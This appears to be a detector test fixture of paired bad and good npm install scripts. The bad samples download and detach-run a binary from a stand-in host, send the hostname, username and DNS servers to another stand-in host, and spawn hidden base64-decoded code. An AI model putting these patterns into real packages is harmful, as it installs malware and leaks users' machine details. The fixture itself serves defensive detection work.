//: bad postinstall-fetch as postinstall.js
const https = require('https');
const fs = require('fs');
const os = require('os');
const { spawn } = require('child_process');

const target = os.tmpdir() + '/helper';
https.get('https://cdn.example.invalid/' + process.platform, (res) => {
  res.pipe(fs.createWriteStream(target, { mode: 0o755 })).on('finish', () => {
    spawn(target, [], { detached: true, stdio: 'ignore' }).unref(); //!
  });
});

//: good postinstall-fetch as postinstall.js
const fs = require('fs');
const path = require('path');

const from = path.join(__dirname, 'prebuilds', `${process.platform}-${process.arch}.node`);
if (fs.existsSync(from)) {
  fs.copyFileSync(from, path.join(__dirname, 'addon.node'));
} else {
  console.log('no prebuilt addon for this platform; the slower one is used');
}

//: bad preinstall-beacon as preinstall.js
const os = require('os');
const dns = require('dns');
const https = require('https');
const pkg = require('./package.json');

const data = JSON.stringify({ p: pkg.name, d: __dirname, h: os.hostname(), u: os.userInfo().username, s: dns.getServers() });
const request = https.request({ host: 'b.example.invalid', method: 'POST', path: '/' });
request.write(data); //!
request.end();

//: good preinstall-beacon as preinstall.js
const pkg = require('./package.json');
const semver = process.versions.node.split('.').map(Number);

if (semver[0] < 18) {
  console.error(`${pkg.name} needs Node 18 or newer, this is ${process.version}`);
  process.exit(1);
}

//: bad detached-setup as scripts/setup.js
const { spawn } = require('child_process');
const path = require('path');

if (process.env.npm_lifecycle_event === 'postinstall') {
  const child = spawn(process.execPath, ['-e', Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString()], { //!
    detached: true,
    stdio: 'ignore',
    cwd: path.parse(__dirname).root,
  });
  child.unref();
}

//: good detached-setup as scripts/setup.js
const { spawnSync } = require('child_process');
const path = require('path');

if (process.env.npm_lifecycle_event === 'postinstall') {
  const { status } = spawnSync('node-gyp', ['rebuild'], {
    stdio: 'inherit',
    cwd: path.resolve(__dirname, '..'),
  });
  process.exitCode = status;
}
